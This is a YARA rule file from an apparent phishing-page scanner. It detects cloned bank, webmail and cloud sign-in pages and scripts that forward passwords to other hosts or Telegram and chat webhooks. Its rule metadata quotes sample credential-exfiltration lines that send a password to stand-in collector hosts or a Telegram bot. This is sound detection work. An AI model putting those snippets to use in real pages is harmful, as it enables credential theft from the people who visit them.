/*
 * hostsweep — cloned sign-in pages (phishing kits' HTML pages).
 *
 * Moved here unchanged from phishing.yar (only the private rules' names
 * changed, to keep the names unique over rules/): these rules judge plain
 * HTML pages, which hold no PHP open tag, so this file cannot declare the
 * PHP scope and phishing.yar now can (docs/rules.md, "Rule scope").
 * Severity and `seen` as in webshell.yar (docs/rules.md).
 */

/* A sign-in form: a password field in a form that posts to a .php script. */
private rule phishing_pages__password_form
{
    strings:
        /* t[y]pe: the class keeps YARA from taking the common "type" as search atom */
        $p = /t[y]pe\s{0,2}=\s{0,2}["']?password/ nocase
        $f = /<form[^>]{0,300}action\s{0,2}=\s{0,2}["'][^"'?#]{0,120}\.php["'?]/ nocase
    condition:
        $p and $f
}

/* What a real application's own login form carries and a clone's rarely
 * does: a CSRF token or nonce, a template engine's markup. */
private rule phishing_pages__real_app_form
{
    strings:
        $t1 = "csrf" ascii nocase
        $t2 = "_token" ascii
        $t3 = "nonce" ascii nocase
        $t4 = "{{" ascii
        $t5 = "<roundcube:" ascii
        $t6 = "wp_login" ascii
    condition:
        any of them
}

/* A brand in the title. Generic words a hosting provider's own pages use
 * too (Webmail, Office, Excel: "Webmail :: Welcome" is Roundcube's title,
 * "Webmail Login" cPanel's) are not brands here: they count only for a form
 * that posts offsite (phishing_generic_title_offsite_login). */
rule phishing_brand_title_login_clone : phishing
{
    meta:
        description = "Page titled as a bank, webmail, cloud or payment brand with a password form posting to a script, without the CSRF token of a real application"
        severity = "medium"
        technique = "static brand sign-in clone (<title>Sign in - PayPal</title> + password field + action=post.php)"
        seen = "none"
    strings:
        $t = /<title>[^<]{0,80}(PayPal|Microsoft|Office ?365|Outlook|OneDrive|SharePoint|Apple ID|iCloud|Netflix|DHL|FedEx|Wells Fargo|Chase|Bank of America|Coinbase|Binance|MetaMask|Blockchain|Dropbox|Amazon|Adobe|DocuSign|WeTransfer|Gmail|Google|Yahoo|AOL|cPanel|Zimbra|Instagram|Facebook|Santander|Barclays|HSBC|Citi|Capital One|American Express|USPS|Royal Mail|La Poste)/ nocase
    condition:
        filesize < 400KB and $t and phishing_pages__password_form and not phishing_pages__real_app_form
}

/* The password goes to a script on another host (an absolute http(s) URL
 * ending in .php): a brand's sign-in page never posts to someone's PHP
 * script, a clone that forwards what it collects does. */
private rule phishing_pages__offsite_post
{
    strings:
        $o = /<form[^>]{0,300}action\s{0,2}=\s{0,2}["']https?:\/\/[^"'\/\s]{1,100}\/[^"'?#]{0,120}\.php["'?]/ nocase
    condition:
        $o
}

/* A named brand's title and its password posted offsite: the harvesting
 * clone, not a provider's own page (which posts to itself). */
rule phishing_brand_title_offsite_post : phishing
{
    meta:
        description = "Page titled as a bank, cloud or payment brand whose password form posts to a PHP script on another host"
        severity = "high"
        technique = "brand sign-in clone forwarding credentials: <title>Sign in - PayPal</title> + password field + action=https://collector.example/post.php"
        seen = "none"
    strings:
        $t = /<title>[^<]{0,80}(PayPal|Microsoft|Office ?365|Outlook|OneDrive|SharePoint|Apple ID|iCloud|Netflix|DHL|FedEx|Wells Fargo|Chase|Bank of America|Coinbase|Binance|MetaMask|Blockchain|Dropbox|Amazon|Adobe|DocuSign|WeTransfer|Gmail|Google|Yahoo|AOL|Zimbra|Instagram|Facebook|Santander|Barclays|HSBC|Citi|Capital One|American Express|USPS|Royal Mail|La Poste)/ nocase
    condition:
        filesize < 400KB and $t and phishing_pages__password_form and phishing_pages__offsite_post and
        not phishing_pages__real_app_form
}

/* A generic webmail/office title ("Webmail :: Welcome", "Excel Online")
 * with the password posted to another host's PHP script: a provider's own
 * login posts to itself (./?_task=login, /login/). Medium: a provider's
 * site may carry a webmail box posting to its mail host. */
rule phishing_generic_title_offsite_login : phishing
{
    meta:
        description = "Page titled Webmail, Office or Excel whose password form posts to a PHP script on another host"
        severity = "medium"
        technique = "generic webmail sign-in clone: <title>Webmail :: Welcome</title> + password field + action=https://collector.example/next.php"
        seen = "none"
    strings:
        $t = /<title>[^<]{0,80}(Webmail|Office|Excel)/ nocase
    condition:
        filesize < 400KB and $t and phishing_pages__password_form and phishing_pages__offsite_post and
        not phishing_pages__real_app_form
}

/* The same clone when the title is generic ("Aanmelden", "Sign in"): the
 * page claims the brand in its body, as the brand's own copyright footer or
 * as "your <brand> account" in the languages kits are written in. A real
 * application's login page names itself, not Microsoft or PayPal. */
rule phishing_brand_claim_login_clone : phishing
{
    meta:
        description = "Password form posting to a script on a page that claims a brand's copyright or account, without the CSRF token of a real application"
        severity = "medium"
        technique = "static brand sign-in clone with a generic title: 'Microsoft (c) 2018' footer or 'Gebruik je Microsoft-account' + password field + action=log.php"
        seen = "packetrat"
    strings:
        $c1 = /(\xc2\xa9|&copy;|&#169;|\(c\)|copyright)\s{0,3}(20\d\d\s{0,3})?(PayPal|Microsoft|Office ?365|Apple|Netflix|DHL|FedEx|Wells Fargo|Chase|Bank of America|Coinbase|Binance|MetaMask|Dropbox|Amazon|Adobe|DocuSign|WeTransfer|Google|Yahoo|AOL|cPanel|Zimbra|Instagram|Facebook|Santander|Barclays|HSBC|Citibank|Capital One|American Express|USPS|Royal Mail|La Poste)\b/ nocase
        $c2 = /\b(PayPal|Microsoft|Office ?365|Apple|Netflix|DHL|FedEx|Wells Fargo|Chase|Bank of America|Coinbase|Binance|MetaMask|Dropbox|Amazon|Adobe|DocuSign|WeTransfer|Google|Yahoo|AOL|cPanel|Zimbra|Instagram|Facebook|Santander|Barclays|HSBC|Citibank|Capital One|American Express|USPS|Royal Mail|La Poste)\s{0,3}(\xc2\xa9|&copy;|&#169;|\(c\)|copyright)\s{0,3}20\d\d/ nocase
        $f = /(PayPal|Microsoft|Apple|Netflix|Amazon|Google|Yahoo|Outlook|Dropbox|Adobe|Coinbase|Binance)[ -](account|Konto|-account)|(compte|cuenta de|conta) (PayPal|Microsoft|Apple|Netflix|Amazon|Google|Yahoo|Outlook)\b/ nocase
    condition:
        filesize < 400KB and any of them and phishing_pages__password_form and not phishing_pages__real_app_form
}

rule phishing_prefilled_victim_login : phishing
{
    meta:
        description = "Sign-in form whose user field is filled in from the link (the victim's address from the phishing mail) with a password field"
        severity = "medium"
        technique = "session-expired / re-login page: value=\"<?php echo $_GET['email'] ?>\" + password field"
        seen = "none"
    strings:
        /* anchored on the echo, not on the common "value" */
        $v1 = /<\?php\s{1,4}echo\s{1,4}[@(]{0,3}\s{0,2}(htmlspecialchars\s{0,2}\(\s{0,2}|htmlentities\s{0,2}\(\s{0,2}|trim\s{0,2}\(\s{0,2})?@?\$_(GET|REQUEST)\s{0,4}\[\s{0,4}['"]?(e|em|email|mail|login|user|username|userid|u|ai|account|id)['"]?\s{0,4}\]/ nocase
        $v2 = /<\?=\s{0,4}[@(]{0,3}\s{0,2}(htmlspecialchars\s{0,2}\(\s{0,2}|htmlentities\s{0,2}\(\s{0,2}|trim\s{0,2}\(\s{0,2})?@?\$_(GET|REQUEST)\s{0,4}\[\s{0,4}['"]?(e|em|email|mail|login|user|username|userid|u|ai|account|id)['"]?\s{0,4}\]/ nocase
    condition:
        filesize < 400KB and any of ($v*) and phishing_pages__password_form and not phishing_pages__real_app_form
}

/* ----------------------------------------------------------------------
 * Third phishing session (issue 12): the HTML-only clone that needs no PHP
 * at all, because the form or a script sends the password to another host
 * or to a messenger. Written from the technique and the invented variants of
 * tests/eval/gen_variants.py (kit_html_form_ext, kit_html_js_exfil and their
 * benign look-alikes: own login page, newsletter signup to a mail service,
 * SSO forms); the corpus and the held-out sets were not opened.
 * A real site's login form posts to its own host or a relative path; an SSO
 * form posts to its identity provider and claims no other brand. What cannot
 * be a real page: a page claiming a brand whose password leaves for a host
 * that is not the brand's, and a password read by a script and sent to a
 * Telegram bot or a chat webhook.
 * ---------------------------------------------------------------------- */

/* The page claims a brand: in its title, its copyright footer or as "your
 * <brand> account" (the strings of the two clone rules above, together). */
private rule phishing_pages__brand_claim
{
    strings:
        /* a word start ("Purchase", "Citizens" are not Chase or Citi), and
         * no end, so "Microsoft365" and "DHLExpress" count; no generic words
         * ("Webmail", "Office", "Online Banking"): a small business's webmail
         * page posts to its hosting company's server, which is another host
         * too, and nothing in the page tells the two apart */
        $t = /<title>[^<]{0,80}\b(PayPal|Microsoft|Office ?365|Outlook|OneDrive|SharePoint|Apple ID|iCloud|Netflix|DHL|FedEx|Wells ?Fargo|Chase|Bank ?of ?America|Coinbase|Binance|MetaMask|Dropbox|Amazon|Adobe|DocuSign|WeTransfer|Gmail|Google|Yahoo|AOL\b|Zimbra|Instagram|Facebook|Santander|Barclays|HSBC|Citi(bank)?\b|Capital ?One|American Express|USPS|Royal Mail|La Poste)/ nocase
        $c1 = /(\xc2\xa9|&copy;|&#169;|\(c\)|copyright)\s{0,3}(20\d\d\s{0,3})?(PayPal|Microsoft|Office ?365|Apple|Netflix|DHL|FedEx|Wells Fargo|Chase|Bank of America|Coinbase|Binance|MetaMask|Dropbox|Amazon|Adobe|DocuSign|WeTransfer|Google|Yahoo|AOL|Zimbra|Instagram|Facebook|Santander|Barclays|HSBC|Citibank|Capital One|American Express|USPS|Royal Mail|La Poste)\b/ nocase
        $c2 = /\b(PayPal|Microsoft|Office ?365|Apple|Netflix|DHL|FedEx|Wells Fargo|Chase|Bank of America|Coinbase|Binance|MetaMask|Dropbox|Amazon|Adobe|DocuSign|WeTransfer|Google|Yahoo|AOL|Zimbra|Instagram|Facebook|Santander|Barclays|HSBC|Citibank|Capital One|American Express|USPS|Royal Mail|La Poste)\s{0,3}(\xc2\xa9|&copy;|&#169;|\(c\)|copyright)\s{0,3}20\d\d/ nocase
        $f = /(PayPal|Microsoft|Apple|Netflix|Amazon|Google|Yahoo|Outlook|Dropbox|Adobe|Coinbase|Binance|DHL|Zimbra)[ -](account|Konto|-account)|(compte|cuenta de|conta) (PayPal|Microsoft|Apple|Netflix|Amazon|Google|Yahoo|Outlook)\b/ nocase
        /* more mail providers, banks and parcel services, claimed in a
         * heading, a "Sign in to <brand>" line or the title (UPS and ING
         * case-sensitive: "ups", "ing" are words) */
        $b1 = /(<title>[^<]{0,80}|<h[1-3][^>]{0,120}>[^<]{0,60}|(sign in|log ?in|login|log on) to (your )?)\b(Hotmail|Outlook|Office ?365|Microsoft|Gmail|Google|Yahoo|AOL\b|Yandex|Mail\.ru|GMX|Web\.de|Zoho|ProtonMail|Xfinity|Comcast|AT&T|Verizon|iCloud|PayPal|Netflix|Apple|Amazon|DHL|FedEx|USPS|Royal Mail|DPD|Canada Post|Australia Post|PostNL|La Poste|Wells ?Fargo|Chase|Bank ?of ?America|Santander|Barclays|HSBC|Lloyds|NatWest|Halifax|TD Bank|Scotiabank|Capital ?One|American Express|Citi(bank)?\b|Commonwealth Bank|Westpac|BNP Paribas|Deutsche Bank|Sparkasse|Coinbase|Binance|MetaMask|Dropbox|DocuSign|Adobe|WeTransfer|SharePoint|OneDrive)/ nocase
        $b2 = /(<title>[^<]{0,80}|<h[1-3][^>]{0,120}>[^<]{0,60}|(sign in|log ?in|login|log on) to (your )?|(\xc2\xa9|&copy;|&#169;)\s{0,3}(20\d\d\s{0,3})?)\b(UPS|ING)\b/
        $b3 = /(\xc2\xa9|&copy;|&#169;|\(c\)|copyright)\s{0,3}(20\d\d\s{0,3})?(Hotmail|Yandex|Mail\.ru|GMX|Zoho|ProtonMail|Xfinity|Comcast|AT&T|Verizon|DPD|Canada Post|Australia Post|PostNL|Lloyds|NatWest|Halifax|TD Bank|Scotiabank|Commonwealth Bank|Westpac|BNP Paribas|Deutsche Bank|Sparkasse)\b/ nocase
        /* "Use your Google account" (and a heading naming Google) is also
         * what a real page with a "Sign in with Google" button says: the
         * account or heading claim counts only on a page without one */
        $o1 = /(sign in|log in|login|continue|sign up) with (Google|Microsoft|Apple|Facebook|PayPal|Amazon|Yahoo)/ nocase
        $o2 = "oauth" ascii nocase
    condition:
        any of ($t, $c1, $c2, $b2, $b3) or (($f or $b1) and not any of ($o*))
}

private rule phishing_pages__password_field
{
    strings:
        $p = /t[y]pe\s{0,2}=\s{0,2}["']?password/ nocase
    condition:
        $p
}

rule phishing_html_form_posts_offsite : phishing
{
    meta:
        description = "Page claiming a brand whose password form posts to an absolute address that is not one of the brand's hosts"
        severity = "high"
        technique = "HTML-only sign-in clone: <title>Outlook Web App</title> ... <form action=\"https://other.example/owa/post\"> + password field"
        seen = "none"
    strings:
        /* $own: the brands' own sign-in hosts. A saved copy of the real page,
         * or an SSO form, posts there, and nothing leaves for a stranger. */
        $ext = /<form[^>]{0,300}action\s{0,2}=\s{0,2}["']?(https?:)?\/\/[\w-]/ nocase
        /* the same form posting to the claimed brand's own sign-in host */
        $own = /<form[^>]{0,300}action\s{0,2}=\s{0,2}["']?(https?:)?\/\/([\w-]{1,40}\.){0,4}(microsoftonline\.com|live\.com|microsoft\.com|office\.com|office365\.com|outlook\.com|paypal\.com|apple\.com|icloud\.com|google\.com|yahoo\.com|aol\.com|netflix\.com|amazon\.com|dropbox\.com|adobe\.com|docusign\.net|dhl\.com|fedex\.com|wellsfargo\.com|chase\.com|bankofamerica\.com|facebook\.com|instagram\.com|coinbase\.com|binance\.com|yandex\.(ru|com)|mail\.ru|gmx\.(net|de|com)|web\.de|zoho\.com|proton\.me|ups\.com|usps\.com|lloydsbank\.com|natwest\.com|hsbc\.[a-z.]{2,6}|barclays\.co\.uk|santander\.[a-z.]{2,6}|citi\.com|capitalone\.com|americanexpress\.com)[\/"':?]/ nocase
    condition:
        filesize < 400KB and $ext and #ext > #own and phishing_pages__password_field and phishing_pages__brand_claim and
        not phishing_pages__real_app_form
}

/* Documentation, translations and script or test sources are no page: a
 * Markdown page showing a kit's code, a login component's unit test
 * (tests/eval/phishgen2.py look-alikes security_doc_md,
 * login_component_test). */
private rule phishing_pages__not_a_page
{
    condition:
        extension == "md" or extension == "markdown" or extension == "rst" or extension == "adoc" or
        extension == "asciidoc" or extension == "txt" or extension == "text" or extension == "po" or
        extension == "pot" or extension == "json" or extension == "yml" or extension == "yaml" or
        extension == "js" or extension == "mjs" or extension == "cjs" or extension == "ts" or
        extension == "jsx" or extension == "tsx" or extension == "vue" or extension == "svelte" or
        extension == "map" or extension == "snap"
}

/* A script reads the password field's value (by id, name or the form). */
private rule phishing_pages__password_read
{
    strings:
        $r1 = /getElementById\s{0,2}\(\s{0,2}["'][\w-]{0,20}(pass|pwd|psw|pw|i0118)[\w-]{0,20}["']\s{0,2}\)\s{0,2}\.value/ nocase
        $r2 = /\$\(\s{0,2}["'][^"'\n]{0,60}(pass|pwd|psw|pw|i0118)[^"'\n]{0,40}["']\s{0,2}\)\s{0,2}\.val\(\)/ nocase
        $r3 = /querySelector\s{0,2}\(\s{0,2}["'][^"'\n]{0,80}(pass|pwd|psw|pw|i0118)[^"'\n]{0,40}["']\s{0,2}\)\s{0,2}\.value/ nocase
        $r4 = /[.\[]["']?[\w-]{0,20}(pass|pwd|psw|pw|i0118)[\w-]{0,20}["']?\]?\.value\b/ nocase
        $r5 = /new\s{1,4}FormData\s{0,2}\(/
        $r6 = ".serialize()" ascii
    condition:
        any of them
}

/* ... and sends something from the page (fetch, XHR, jQuery, a beacon). */
private rule phishing_pages__script_send
{
    strings:
        $s1 = /\bfetch\s{0,2}\(/
        $s2 = "XMLHttpRequest" ascii
        $s3 = /\$\.(post|ajax|get)\s{0,2}\(/
        $s4 = "sendBeacon(" ascii
        $s5 = /axios\.post\s{0,2}\(/
    condition:
        any of them
}

/* Any field's value read by a script: on a page with a password field that
 * sends to a messenger, which field it is does not matter. */
private rule phishing_pages__field_read
{
    strings:
        $v1 = /\)\s{0,2}\.value\b/
        $v2 = /\)\s{0,2}\.val\(\)/
        $v3 = /\.elements\s{0,2}[.\[]/
    condition:
        any of them
}

rule phishing_html_password_to_messenger : phishing
{
    meta:
        description = "Page script that reads the password field and sends it to a Telegram bot or a chat webhook (Discord, Slack, webhook.site)"
        severity = "high"
        technique = "fetch('https://api.telegram.org/bot<token>/sendMessage', {body: JSON.stringify({chat_id, text: 'Pass: ' + pass.value})})"
        seen = "none"
    strings:
        $m1 = "api.telegram.org" ascii nocase
        $m2 = /discord(app)?\.com\/api\/webhooks\//
        $m3 = "hooks.slack.com/services" ascii
        $m4 = "webhook.site/" ascii
        $m5 = "/sendMessage" ascii
        $c = "chat_id" ascii
    condition:
        filesize < 1MB and phishing_pages__password_field and (phishing_pages__password_read or phishing_pages__field_read) and
        phishing_pages__script_send and (any of ($m1, $m2, $m3, $m4) or ($m5 and $c)) and not phishing_pages__not_a_page
}

rule phishing_html_password_posted_offsite : phishing
{
    meta:
        description = "Page claiming a brand whose script reads the password field and posts it to an absolute (or encoded) address that is not one of the brand's hosts"
        severity = "high"
        technique = "HTML-only clone: $.post('https://collector.example/s', {u: email, p: $('#pass').val()}) / fetch(atob('...'))"
        seen = "none"
    strings:
        $a1 = /\bfetch\s{0,2}\(\s{0,2}(["']https?:\/\/|atob\s{0,2}\()/
        $a2 = /\.open\s{0,2}\(\s{0,2}["']POST["']\s{0,2},\s{0,2}(["']https?:\/\/|atob\s{0,2}\()/ nocase
        $a3 = /\$\.post\s{0,2}\(\s{0,2}(["']https?:\/\/|atob\s{0,2}\()/
        $a4 = /\burl\s{0,2}:\s{0,2}(["']https?:\/\/|atob\s{0,2}\()/
        $a5 = /sendBeacon\s{0,2}\(\s{0,2}(["']https?:\/\/|atob\s{0,2}\()/
        $a6 = /axios\.post\s{0,2}\(\s{0,2}(["']https?:\/\/|atob\s{0,2}\()/
        /* the address in a variable the send call uses */
        $a7 = /\b(var|let|const)\s{1,4}\w{1,30}\s{0,2}=\s{0,2}(["']https?:\/\/|atob\s{0,2}\()/
        $own = /(fetch\s{0,2}\(|["']POST["']\s{0,2},|\$\.post\s{0,2}\(|\burl\s{0,2}:|sendBeacon\s{0,2}\(|axios\.post\s{0,2}\(|\b(var|let|const)\s{1,4}\w{1,30}\s{0,2}=)\s{0,2}["']https?:\/\/([\w-]{1,40}\.){0,4}(microsoftonline\.com|live\.com|microsoft\.com|office\.com|paypal\.com|apple\.com|google\.com|googleapis\.com|yahoo\.com|netflix\.com|amazon\.com|dropbox\.com|dhl\.com|fedex\.com|wellsfargo\.com|chase\.com|facebook\.com)[\/"':?]/ nocase
    condition:
        filesize < 1MB and (#a1 + #a2 + #a3 + #a4 + #a5 + #a6 + #a7) > #own and phishing_pages__script_send and phishing_pages__password_field and
        phishing_pages__password_read and phishing_pages__brand_claim and not phishing_pages__real_app_form and
        not phishing_pages__not_a_page
}
